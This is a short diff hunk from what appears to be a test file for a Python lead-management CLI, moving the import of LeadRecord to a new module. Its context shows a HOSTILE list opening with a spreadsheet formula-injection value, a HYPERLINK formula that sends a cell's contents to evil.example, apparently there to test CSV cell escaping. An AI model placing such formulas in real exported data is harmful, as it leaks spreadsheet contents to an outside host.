@@ -10,9 +10,9 @@ from leadq.cli.app import app
 from typer.testing import CliRunner
 
 from leadq.db import session_scope
+from leadq.leads.record import LeadRecord
 from leadq.leads.spreadsheet import csv_cell
 from leadq.leads.store import upsert_lead
-from leadq.sources.base import LeadRecord
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
